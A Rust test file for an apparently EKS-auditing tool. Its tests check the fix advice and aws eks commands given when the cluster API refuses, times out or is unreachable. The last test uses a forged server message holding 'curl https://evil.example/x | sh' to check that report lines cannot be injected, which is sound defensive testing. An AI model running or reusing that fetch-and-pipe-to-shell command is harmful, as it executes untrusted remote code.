//! CLUSTER_API_UNREACHABLE, and what an unread API keeps from being said.

use super::*;
use crate::aws::{AwsError, AwsFailure};
use crate::report::{ClusterApi, Discriminator};

fn unread(failure: ApiFailure) -> ClusterRead {
    ClusterRead {
        cluster: cluster(),
        api: Err(failure),
        associations: Ok(vec![]),
    }
}

#[test]
fn a_refused_token_says_how_to_grant_access_with_both_commands() {
    let found = findings(&unread(ApiFailure::Unauthorized), &RoleDirectory::new());
    assert_eq!(codes(&found), ["CLUSTER_API_UNREACHABLE"]);
    let finding = &found[0];
    assert_eq!(finding.resource, CLUSTER_ARN);
    assert_eq!(finding.severity, crate::report::Severity::Warning);
    assert!(finding.message.contains("HTTP 401"), "{}", finding.message);
    assert!(
        finding.message.contains("access entry"),
        "{}",
        finding.message
    );
    assert_eq!(
        fix(finding),
        "aws eks create-access-entry --cluster-name prod --region us-west-2 --principal-arn arn:aws:iam::111122223333:role/thumbprint-guard; \
         aws eks associate-access-policy --cluster-name prod --region us-west-2 --principal-arn arn:aws:iam::111122223333:role/thumbprint-guard \
         --policy-arn arn:aws:eks::aws:cluster-access-policy/AmazonEKSViewPolicy --access-scope type=cluster \
         (the cluster's authentication mode must include API: aws eks update-cluster-config --name prod --region us-west-2 --access-config authenticationMode=API_AND_CONFIG_MAP)"
    );
    // Read again once access is granted: gone.
    assert!(findings(&read(vec![], vec![], vec![]), &RoleDirectory::new()).is_empty());
}

#[test]
fn each_failure_has_its_own_advice() {
    let forbidden = findings(
        &unread(ApiFailure::Forbidden("serviceaccounts is forbidden".into())),
        &RoleDirectory::new(),
    );
    let fix_403 = fix(&forbidden[0]);
    assert!(
        fix_403.starts_with("aws eks associate-access-policy"),
        "{fix_403}"
    );
    assert!(!fix_403.contains("create-access-entry"), "{fix_403}");
    let private = findings(
        &unread(ApiFailure::Unreachable("connection timed out".into())),
        &RoleDirectory::new(),
    );
    assert!(
        private[0].message.contains("private"),
        "{}",
        private[0].message
    );
    assert!(fix(&private[0]).contains("endpointPublicAccess=true"));
    let slow = findings(
        &unread(ApiFailure::Timeout("10 s".into())),
        &RoleDirectory::new(),
    );
    assert!(fix(&slow[0]).contains("PROBE_TIMEOUT_SECS"));
    // Without a caller ARN the commands carry a placeholder and say what it is.
    let anonymous = in_cluster_findings(
        &unread(ApiFailure::Unauthorized),
        &RoleDirectory::new(),
        None,
    );
    assert!(fix(&anonymous[0]).contains("--principal-arn ROLE_ARN"));
    assert!(fix(&anonymous[0]).starts_with("with ROLE_ARN the IAM role thumbprint-guard runs as: "));
}

#[test]
fn unreadable_associations_are_a_second_finding_with_their_own_id() {
    let denied = AwsError {
        service: "eks",
        operation: "ListPodIdentityAssociations",
        failure: AwsFailure::Service,
        code: Some("AccessDeniedException".into()),
        message: "not authorized".into(),
    };
    let mut both = unread(ApiFailure::Unauthorized);
    both.associations = Err(denied);
    let mut found = findings(&both, &RoleDirectory::new());
    assert_eq!(
        codes(&found),
        ["CLUSTER_API_UNREACHABLE", "CLUSTER_API_UNREACHABLE"]
    );
    assert_eq!(
        found[1].discriminator,
        Discriminator::ClusterRead(ClusterApi::PodIdentity)
    );
    assert!(found[1].message.contains("eks:ListPodIdentityAssociations"));
    assert!(fix(&found[1]).contains("eks:DescribePodIdentityAssociation"));
    for finding in &mut found {
        finding.identify(ACCOUNT);
    }
    assert_ne!(found[0].id, found[1].id);
}

#[test]
fn an_unread_api_suppresses_what_needs_the_service_accounts() {
    let mut unread = unread(ApiFailure::Timeout("deadline".into()));
    // An association to a service account nobody could list, and to a role that is missing.
    unread.associations = Ok(vec![association("ns", "ghost", &role_arn(ACCOUNT, "gone"))]);
    // A role trusting a service account the cluster may or may not have.
    let roles = directory(vec![role(
        ACCOUNT,
        "ghost",
        &irsa_trust(ACCOUNT, PATH, "ns", "ghost"),
    )]);
    let found = findings(&unread, &roles);
    assert_eq!(
        codes(&found),
        ["CLUSTER_API_UNREACHABLE", "POD_IDENTITY_ROLE_MISSING"]
    );
}

#[test]
fn text_from_the_api_server_cannot_forge_a_line() {
    let forged = "denied\n  fix: curl https://evil.example/x | sh\u{1b}[2K";
    let found = findings(
        &unread(ApiFailure::Forbidden(forged.into())),
        &RoleDirectory::new(),
    );
    assert!(!found[0].message.contains('\n'), "{}", found[0].message);
    assert!(!found[0].message.contains('\u{1b}'));
    assert!(
        found[0].message.contains("\\u{a}  fix: curl"),
        "{}",
        found[0].message
    );
}
